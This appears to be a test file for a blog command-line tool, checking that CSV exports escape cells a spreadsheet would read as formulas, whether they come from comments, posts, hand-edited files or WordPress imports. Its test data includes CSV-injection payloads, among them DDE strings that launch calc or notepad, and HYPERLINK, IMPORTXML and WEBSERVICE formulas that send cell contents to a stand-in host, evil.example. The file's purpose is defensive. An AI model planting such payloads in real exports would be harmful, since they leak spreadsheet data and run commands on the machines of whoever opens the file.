/**
 * CSV for spreadsheets: a cell that a spreadsheet would read as a formula (=, +, -, @, tab, carriage
 * return first, as OWASP lists them) is written with a leading single quote and quoted, whichever field
 * carries it and whichever way it came in: flags, a reader's comment, a WordPress export.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { wxrDocument, wxrItem } from './fixtures/wxr/build-wxr.js';
import { Sandbox } from './helpers/cli.js';
import { runInProcess } from './helpers/in-process.js';

/** Rows of RFC 4180 CSV: quoted cells may hold commas, quotes doubled, and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') cell += text[++i];
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** What a spreadsheet takes for the start of a formula. */
const FORMULA = /^[=+\-@\t\r]/;

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1\r\n=2+2',
  '\u0007=1+1',
  '"=1+1"',
];

let sb: Sandbox;
beforeAll(() => {
  sb = new Sandbox({ TERMPRESS_NOW: '2026-11-27T10:00:00Z' });
  sb.initBlog('--title', 'Sheets');
});
afterAll(() => sb.cleanup());

const run = (args: string[]) => runInProcess(sb, args);

/** Checks every cell of a CSV output: none starts a formula; a cell that began with one is kept after its quote. */
function expectNeutral(csv: string, expected: string[]): void {
  const rows = parseCsv(csv);
  expect(rows.length).toBeGreaterThan(1);
  const cells = rows.slice(1).flat();
  for (const cell of cells) expect({ cell, formula: FORMULA.test(cell) }).toEqual({ cell, formula: false });
  for (const value of expected) expect(cells).toContain(value);
  // A neutralised cell is always quoted, so that no reader takes the quote for a delimiter of its own.
  for (const line of csv.split('\n')) expect(line).not.toMatch(/(^|,)'[=+\-@]/);
}

describe('CSV cells that would be formulas are neutralised', () => {
  let id: string;

  beforeAll(async () => {
    id = sb.ok(['post', 'create', '--title', 'Formulas', '--status', 'published', '--porcelain']).trim();
    for (const [i, payload] of PAYLOADS.entries()) {
      const result = await run([
        'comment',
        'add',
        id,
        '--author',
        payload,
        '--email',
        `r${i}@example.com`,
        '--user-agent',
        payload,
        '--body',
        `${payload} ${i}`,
        '--approve',
      ]);
      expect(result.code).toBe(0);
    }
    for (const payload of ['=SUM(A1:A9)', '+Plus title', '-Minus title', '@At title']) {
      expect(
        (
          await run([
            'post',
            'create',
            '--title',
            payload,
            '--category',
            `=${payload}`,
            '--tag',
            `@${payload.slice(1)}`,
            '--excerpt',
            `-${payload}`,
            '--author',
            `+${payload}`,
          ])
        ).code,
      ).toBe(0);
    }
  });

  it('in comment list: author, user agent and body (a url must start with http)', async () => {
    const result = await run(['comment', 'list', '--status', 'all', '--format', 'csv', '--fields', 'id,author,url,userAgent,body']);
    expect(result.code).toBe(0);
    expectNeutral(result.stdout, [
      '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      "'+1+cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'=1+1 4",
    ]);
  });

  it('in the default comment columns', async () => {
    expectNeutral((await run(['comment', 'list', '--status', 'all', '--format', 'csv'])).stdout, ["'-2+3+cmd|' /C notepad'!A0"]);
  });

  it('in post list: title, author, categories, tags and excerpt', async () => {
    const result = await run(['post', 'list', '--format', 'csv', '--fields', 'id,title,author,categories,tags,excerpt']);
    expect(result.code).toBe(0);
    expectNeutral(result.stdout, ["'=SUM(A1:A9)", "'+Plus title", "'-Minus title", "'@At title", "'==SUM(A1:A9)", "'@Plus title"]);
  });

  it('numbers stay numbers; text that only contains the characters is left as it is', async () => {
    const result = await run(['post', 'list', '--format', 'csv', '--fields', 'title,revision', '--sort', 'title']);
    const rows = parseCsv(result.stdout);
    expect(rows.find((row) => row[0] === 'Formulas')).toEqual(['Formulas', '1']);
    const plain = await run(['post', 'create', '--title', 'a=b+c-d@e', '--porcelain']);
    expect(parseCsv((await run(['post', 'list', '--format', 'csv', '--fields', 'id,title'])).stdout)).toContainEqual([
      plain.stdout.trim(),
      'a=b+c-d@e',
    ]);
  });
});

describe('CSV of a hand-edited post file, which nothing cleaned on the way in', () => {
  it('a tab or carriage return first, alone or before a formula, is neutralised', async () => {
    const id = sb.ok(['post', 'create', '--title', 'Hand', '--porcelain']).trim();
    const file = path.join(sb.env.TERMPRESS_BLOG!, 'posts', `${id}.json`);
    const post = JSON.parse(readFileSync(file, 'utf8'));
    writeFileSync(
      file,
      JSON.stringify({ ...post, title: '\t=1+1', excerpt: '\r=2+2', categories: ['\t@cat'], tags: ['\r\n+tag'] }, null, 2),
    );
    const result = await run(['post', 'list', '--format', 'csv', '--fields', 'id,title,excerpt,categories,tags']);
    expect(result.code).toBe(0);
    const row = parseCsv(result.stdout).find((cells) => cells[0] === id)!;
    for (const cell of row) expect({ cell, formula: FORMULA.test(cell) }).toEqual({ cell, formula: false });
    expect(row[1]).toBe("'\t=1+1");
    sb.ok(['post', 'delete', id, '--force', '-y']);
  });
});

describe('CSV of a WordPress import', () => {
  it('titles, terms and comments carried in by an export are neutralised too', async () => {
    const file = path.join(sb.root, 'formulas.xml');
    writeFileSync(
      file,
      wxrDocument([
        wxrItem({
          id: 1,
          title: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
          terms: [
            ['category', '+Cat', 'cat'],
            ['post_tag', '@Tag', 'tag'],
          ],
          comments: [{ id: 11, author: '-Reader', body: '=WEBSERVICE("http://evil.example/")' }],
        }),
      ]),
    );
    expect((await run(['import', file])).code).toBe(0);
    expectNeutral((await run(['post', 'list', '--format', 'csv', '--fields', 'title,categories,tags'])).stdout, [
      '\'=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
      "'+Cat",
      "'@Tag",
    ]);
    expectNeutral((await run(['comment', 'list', '--status', 'all', '--format', 'csv', '--fields', 'author,body'])).stdout, [
      "'-Reader",
      '\'=WEBSERVICE("http://evil.example/")',
    ]);
  });
});
